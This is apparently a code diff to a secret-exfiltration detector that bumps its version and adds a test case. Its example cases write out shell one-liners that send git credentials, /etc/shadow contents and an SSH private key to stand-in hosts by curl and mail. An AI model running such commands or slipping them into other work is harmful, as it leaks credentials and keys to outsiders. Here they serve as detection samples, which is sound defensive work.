@@ -12,7 +12,7 @@ import { valueWords } from './wording.ts';
 /** Secrets sent away. */
 export const exfiltration: Detector = {
   id: 'exfiltration',
-  version: 2,
+  version: 3,
   title: 'Sends secrets to somebody.',
   attack: ['T1041', 'T1552.001', 'T1567'],
   description: `
@@ -48,6 +48,13 @@ on the machine, in the cluster or goes to the cloud's own interface is nothing.
     {
       name: 'in the address',
       image: { cmd: ['sh', '-c', 'curl "https://c.example/?d=$(cat /root/.git-credentials | base64 -w0)"'] },
+    },
+    {
+      name: 'with the file in the image',
+      image: {
+        cmd: ['sh', '-c', 'x=$(base64 -w0 /etc/shadow); curl -H "X-A: $x" http://203.0.113.9/'],
+        files: { '/etc/shadow': 'root:*:19000:0:99999:7:::\n' },
+      },
     },
     { name: 'by mail', image: { cmd: ['sh', '-c', 'mail -s x someone@box.example < /root/.ssh/id_rsa'] } },
     {
